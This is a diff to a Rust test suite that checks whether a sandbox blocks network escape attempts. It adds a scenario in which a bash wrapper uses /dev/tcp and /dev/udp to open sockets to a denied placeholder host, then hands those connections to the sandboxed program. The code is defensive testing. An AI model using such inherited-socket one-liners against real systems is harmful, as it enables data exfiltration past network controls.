@@ -30,6 +30,7 @@ use crate::{
 scenarios![
     a_denied_peer_is_not_reached_by_another_spelling_or_message,
     a_denied_peer_is_not_reached_by_another_protocol_or_family,
+    a_connection_that_was_there_before_carries_nothing,
     only_the_loopback_address_that_is_allowed_is_reached,
     metadata_is_not_reached_by_any_spelling,
     no_data_leaves_in_the_names_that_are_asked_for,
@@ -332,6 +333,37 @@ fn a_denied_peer_is_not_reached_by_another_protocol_or_family() -> Result<Outcom
         ]
     };
     Escape::new(&ground, &fine_alone, &ways).check("network.protocols")
+}
+
+fn a_connection_that_was_there_before_carries_nothing() -> Result<Outcome> {
+    const PORT: u16 = 4646;
+    let ground = || {
+        let mut peers = Peers::new()?;
+        peers.tcp(&format!("{BAD}:{PORT}"))?;
+        peers.udp(&format!("{BAD}:{PORT}"))?;
+        Ok(peers)
+    };
+    // The shell connects, and becomes what is to run.
+    let wrapper = |_: &Peers| -> Vec<String> {
+        let script = format!("exec 7<>/dev/tcp/{BAD}/{PORT} 8<>/dev/udp/{BAD}/{PORT}; exec \"$@\"");
+        ["bash", "-c", &script, "bash"].map(str::to_owned).to_vec()
+    };
+    let ways = |_: &Peers| {
+        vec![
+            way("an inherited connection", attempt("write-open", &["7"])),
+            way(
+                "an inherited, connected datagram socket",
+                attempt("write-open", &["8"]),
+            ),
+        ]
+    };
+    let run = |peers: &Peers, run: crate::harness::Run| run.wrapped(&wrapper(peers));
+    Escape {
+        run: &run,
+        outside: &wrapper,
+        ..Escape::new(&ground, &fine_alone, &ways)
+    }
+    .check("network.inherited")
 }
 
 fn only_the_loopback_address_that_is_allowed_is_reached() -> Result<Outcome> {
